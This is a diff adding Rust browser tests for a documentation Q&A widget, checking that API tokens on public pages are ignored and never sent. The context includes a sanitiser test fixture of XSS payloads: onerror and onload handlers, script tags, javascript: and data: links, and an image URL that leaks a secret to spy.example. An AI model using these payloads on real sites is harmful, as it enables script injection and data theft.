@@ -90,6 +90,48 @@ async fn a_page_of_a_foreign_origin_is_refused_in_words() -> Result<()> {
     browser.quit().await
 }
 
+#[tokio::test]
+async fn a_token_on_a_public_page_is_refused_with_the_reason() -> Result<()> {
+    let gateway = Gateway::over_docs(&["--allow-origin", "http://public.test"]).await?;
+    let api = Scripted::start(|_| {
+        let body = stream_head("200 OK", "") + &*snapshot("Yes.", json!([]));
+        vec![Step::send(body + "event: done\ndata: done\n\n")]
+    })
+    .await?;
+    let body = format!("<ask-docs endpoint=\"{}\" token=\"gb_api_secret\"></ask-docs>", api.address);
+    let host = page(&gateway, "", "", &body).await?;
+    let browser = Browser::start(Shape::Desktop).await?;
+    let ask_box = browser.open(&host.address.replace("127.0.0.1", "public.test")).await?;
+    ask_box.ask("How?").await?;
+    ask_box.completed().await?;
+    let received = api.received();
+    ensure!(received.len() == 2, "starter questions and one ask, not {}", received.len());
+    for request in received {
+        let all = format!("{} {:?} {}", request.line, request.headers, request.body);
+        ensure!(!all.contains("gb_api_secret") && !all.contains("authorization"), "{all}");
+    }
+    let warned = complaints(&browser).await?;
+    let warned = warned.iter().any(|entry| {
+        let message = entry["message"].as_str().unwrap_or_default();
+        message.contains("`token` is ignored") && !message.contains("gb_api_secret")
+    });
+    ensure!(warned, "the console does not say why");
+    browser.quit().await
+}
+
+#[tokio::test]
+async fn a_leptos_app_uses_the_box_as_its_component() -> Result<()> {
+    let (docs, app) = (env("ASK_DOCS_ROOT")?.join("docs"), env("ASK_DOCS_TRUNK")?);
+    let (docs, app) = (docs.display().to_string(), app.display().to_string());
+    let gateway = Gateway::serving(&["--docs", &docs, "--www", &app, "--pace", "0"]).await?;
+    let browser = Browser::start(Shape::Desktop).await?;
+    browser.driver.goto(&gateway.address).await?;
+    let ask_box = browser.ask_box("main > div").await?;
+    ask_box.ask("How do I run the gateway with a GitBook token?").await?;
+    ask_box.completed().await?;
+    browser.quit().await
+}
+
 const HOSTILE: &str = "<img src=x onerror=\"window.harmed=1\"><script>window.harmed=1</script>\n\n\
     [run](javascript:window.harmed=1) and ![spy](https://spy.example/?q=secret)\n\n\
     <iframe srcdoc=\"x\"></iframe>\n\n| a | b |\n|---|---|\n| <svg onload=harmed=1> | [x](data:text/html,x) |\n\n\
